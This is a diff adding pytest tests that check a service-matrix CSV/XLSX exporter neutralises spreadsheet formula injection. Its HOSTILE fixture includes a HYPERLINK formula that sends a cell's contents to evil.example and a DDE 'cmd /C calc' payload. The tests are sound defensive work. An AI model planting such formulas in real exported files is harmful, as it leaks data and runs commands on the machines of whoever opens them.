@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import io
 import re
 from pathlib import Path
@@ -12,12 +14,23 @@ import pytest
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
+from api.app import create_app
+from api.settings import Settings
 from cli.main import app
 from graph.errors import NotFound
 from graph.matrix import ServiceMatrix, service_matrix
+from graph.model import Catalog
+from graph.stores.factory import embedded_backend
 from graph.stores.memory import MemoryStore
 from loaders import load_catalog
-from viz.service_matrix import matrix_csv, matrix_frame, matrix_html, matrix_xlsx, shade
+from viz.service_matrix import (
+    matrix_csv,
+    matrix_frame,
+    matrix_html,
+    matrix_xlsx,
+    neutralise,
+    shade,
+)
 
 CONSTRUCTION, KAIGONG = "nev.construction", "nev.construction/kaigong_bundle"
 CIRCULATION, CAR_SALES = "nev.circulation", "nev.circulation/car_sales"
@@ -224,3 +237,100 @@ def test_cli_writes_each_format(mini_path: Path, tmp_path: Path, fmt: str, magic
     assert result.exit_code == 0, result.output
     assert target.read_bytes().startswith(magic)
     assert f"wrote {target}" in result.stderr
+
+
+# --- formula injection (OWASP CSV injection) ---------------------------------------------------
+
+HOSTILE = {
+    # what a catalog may name a bundle or a department; each starts a formula in a spreadsheet
+    "car_sales": '=HYPERLINK("http://evil.example/?x="&A1,"汽车销售一件事")',
+    "kaigong_bundle": "+1+cmd|' /C calc'!A0",
+    "zj": "-2+3",
+    "gh": "@SUM(1,2)",
+    "rf": "\t=1+1",
+    "sw": "\r=1+1",
+    "sj": "市场\r=1+1",  # a CR inside a name must not start a new CSV row
+}
+
+
+@pytest.fixture
+def hostile(mini_catalog: Catalog) -> ServiceMatrix:
+    """The mini matrix with bundles and departments named like formulas (tab and CR included,
+    which the CSV loader would strip, so the names are set on the records)."""
+    bundles = {
+        k: dataclasses.replace(b, name=HOSTILE.get(k, b.name))
+        for k, b in mini_catalog.bundles.items()
+    }
+    departments = {
+        k: dataclasses.replace(d, name=HOSTILE.get(k, d.name))
+        for k, d in mini_catalog.departments.items()
+    }
+    catalog = dataclasses.replace(mini_catalog, bundles=bundles, departments=departments)
+    return service_matrix(MemoryStore(catalog), "nev")
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("汽车销售一件事", "汽车销售一件事"),
+        ("a=1", "a=1"),  # only the first character counts
+        ("", ""),
+        (3, 3),  # numbers stay numbers
+        (-3, -3),
+    ],
+)
+def test_neutralise_quotes_what_a_spreadsheet_would_run(value: object, exported: object) -> None:
+    assert neutralise(value) == exported
+
+
+def _triggered(text: str) -> bool:
+    return text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_export_has_no_cell_a_spreadsheet_would_run(hostile: ServiceMatrix) -> None:
+    rows = list(csv.reader(io.StringIO(matrix_csv(hostile).decode("utf-8-sig"), newline="")))
+    assert len(rows) == 1 + len(hostile.rows) + 1  # header, rows, totals: no row split by a CR
+    assert {len(row) for row in rows} == {len(rows[0])}
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if _triggered(c)]
+    for name in HOSTILE.values():
+        assert ("'" + name if _triggered(name) else name) in cells, name  # header or 名称
+    header = rows[0]
+    assert "'-2+3" in header and "'@SUM(1,2)" in header
+    # the lead column joins department names: its first one is neutralised too
+    assert rows[1][header.index("牵头部门")] == "'-2+3"
+
+
+def test_xlsx_export_stores_no_formula(hostile: ServiceMatrix) -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(hostile)))["服务矩阵"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if _triggered(t)]
+    for name in HOSTILE.values():
+        stored = "'" + name if _triggered(name) else name
+        # XML reads a stored CR back as LF (line-end normalisation); it is text either way
+        assert stored.replace("\r", "\n") in texts, name
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    # the counts are still numbers
+    assert sheet.cell(row=len(hostile.rows) + 2, column=len(hostile.columns) + 6).value == 7
+
+
+def test_api_exports_are_neutralised_too(hostile: ServiceMatrix, mini_catalog: Catalog) -> None:
+    bundles = dict(mini_catalog.bundles)
+    bundles["car_sales"] = dataclasses.replace(bundles["car_sales"], name=HOSTILE["car_sales"])
+    catalog = dataclasses.replace(mini_catalog, bundles=bundles)
+    app = create_app(Settings(), backend=embedded_backend(catalog))
+    with TestClient(app) as client:
+        body = client.get("/v1/viz/service-matrix?industry=nev&format=csv").content
+        xlsx = client.get("/v1/viz/service-matrix?industry=nev&format=xlsx").content
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert "'" + HOSTILE["car_sales"] in [cell for row in rows for cell in row]
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["服务矩阵"]
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
